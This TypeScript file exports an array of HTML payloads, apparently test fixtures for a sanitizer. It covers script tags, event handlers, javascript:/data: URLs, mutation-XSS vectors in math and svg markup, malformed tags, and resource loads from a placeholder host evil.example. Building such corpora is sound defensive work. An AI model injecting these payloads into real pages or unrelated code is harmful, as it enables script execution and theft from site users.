const call = 'hit()';

const elements = [
  `<script>${call}</script>`,
  `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
  `<img src=x onerror=${call}>`,
  `<img src="x" onload="${call}" style="background:url(https://evil.example)">`,
  `<svg onload=${call}></svg>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"></use></svg>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<video autoplay><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}></audio>`,
  `<details open ontoggle=${call}>more</details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}><option>a</option></select>`,
  `<marquee onstart=${call}>m</marquee>`,
  `<body onload=${call}>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/x.css); p { background: url(javascript:${call}) }</style>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example"><button formaction="javascript:${call}">go</button></form>`,
  `<template><img src=x onerror=${call}></template>`,
  `<div><template shadowrootmode="open"><script>${call}</script></template></div>`,
];

const addresses = [
  `<a href="javascript:${call}">x</a>`,
  `<a href=" jAvAsCrIpT:${call}">x</a>`,
  `<a href="java\nscript:${call}">x</a>`,
  `<a href="java&#9;script:${call}">x</a>`,
  `<a href="&#106;&#97;vascript:${call}">x</a>`,
  `<a href="\u0001javascript:${call}">x</a>`,
  `<a href="vbscript:${call}">x</a>`,
  `<a href="data:text/html,<script>${call}</script>">x</a>`,
  `<a href="blob:https://evil.example/1">x</a>`,
  `<a href="//evil.example/">x</a>`,
  `<a href="/api/auth/logout">x</a>`,
  `<a href="\\\\evil.example">x</a>`,
  `<a href="http://plain.example/">x</a>`,
  `<a href="https://fine.example/" onclick="${call}" target="_top" ping="https://evil.example">x</a>`,
];

const foreignContent = [
  `<math href="javascript:${call}">x</math>`,
  `<math><mi xlink:href="javascript:${call}" href="javascript:${call}">x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${call}">x</maction></math>`,
  `<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></semantics></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math><style><!--</style><img src=x onerror=${call}>--></math>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></iframe></foreignObject></svg>`,
];

const brokenMarkup = [
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<img """><script>${call}</script>">`,
  `<img/src/onerror=${call}>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `<title></title><img src=x onerror=${call}>`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<plaintext><img src=x onerror=${call}>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<!--[if IE]><img src=x onerror=${call}><![endif]-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${call}>`,
  `${'<p>'.repeat(600)}<img src=x onerror=${call}>`,
  `<p id="app" name="cookie" class="x" style="position:fixed" data-x="1" is="x-y" contenteditable>text</p>`,
];

/** HTML that acts, loads or changes the page around it when it is shown as it came. */
export const scriptPayloads: readonly string[] = [...elements, ...addresses, ...foreignContent, ...brokenMarkup];
